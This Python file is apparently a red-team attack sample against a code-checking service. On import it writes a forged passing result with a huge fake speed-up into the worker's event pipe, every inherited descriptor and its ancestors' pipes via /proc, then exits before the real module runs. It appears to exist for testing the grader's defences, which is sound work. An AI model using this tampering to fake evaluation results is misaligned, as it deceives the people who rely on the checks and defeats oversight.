"""Attack: forge a result onto every channel the process can reach, then os._exit(0).

Looks for the worker's event pipe (STITCH_EVENT_FD), every inherited pipe or socket, and the pipes
of its ancestors through /proc/<pid>/fd; writes a made-up result line (5 ok trials, a tiny
candidate time, a huge eager time) and a forged door reply, then leaves without answering.
"""
import json
import os
import stat
import struct

import torch
import torch.nn as nn

FAKE = {"event": "result", "result": {
    "trials": [{"trial": i, "ok": True, "max_abs_err": 0.0, "mismatch_fraction": 0.0} for i in range(5)],
    "findings": [], "checks_run": [], "device": "cpu",
    "timing": {"candidate": {"median_ms": 0.001, "iqr_ms": 0.0, "min_ms": 0.001, "calls": 50, "cv": 0.0},
               "eager": {"median_ms": 100.0, "iqr_ms": 0.0, "min_ms": 100.0, "calls": 50, "cv": 0.0},
               "clean_baselines": {"eager": {"median_ms": 100.0, "iqr_ms": 0.0, "min_ms": 100.0, "calls": 50}}}}}
LINE = (json.dumps(FAKE) + "\n").encode()
DOOR = json.dumps({"kind": "called", "outputs": [], "room_ms": 0.001}).encode()
FRAME = struct.pack("!I", len(DOOR)) + DOOR


def _ancestors():
    """This process's parent, grandparent, ... (the judge, the worker, the server): the attack's
    targets. Only these, so that running the attack cannot touch anybody else's processes."""
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = next(int(l.split()[1]) for l in fh if l.startswith("PPid:"))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1 or not _ours(pid):
            break
        out.append(pid)
    return out


def _ours(pid):
    """A process of the checking service (a judge, worker, server or test run), never a shell."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmd = fh.read()
    except OSError:
        return False
    return any(w in cmd for w in (b"stitch_mcp", b"pytest", b"stitch-redteam", b"bwrap"))


def _pipes(folder):
    try:
        names = os.listdir(folder)
    except OSError:
        return []
    out = []
    for n in names:
        try:
            st = os.stat(f"{folder}/{n}")
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) or stat.S_ISSOCK(st.st_mode):
            out.append(f"{folder}/{n}")
    return out


def _forge():
    env_fd = os.environ.get("STITCH_EVENT_FD")
    if env_fd:
        try:
            os.write(int(env_fd), LINE)
        except OSError:
            pass
    for fd in range(3, 256):
        for payload in (FRAME, LINE):
            try:
                os.write(fd, payload)
            except OSError:
                pass
    for pid in _ancestors():
        for path in _pipes(f"/proc/{pid}/fd"):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, LINE)
                os.close(fd)
            except OSError:
                pass


_forge()
os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 0.5 + 1.0
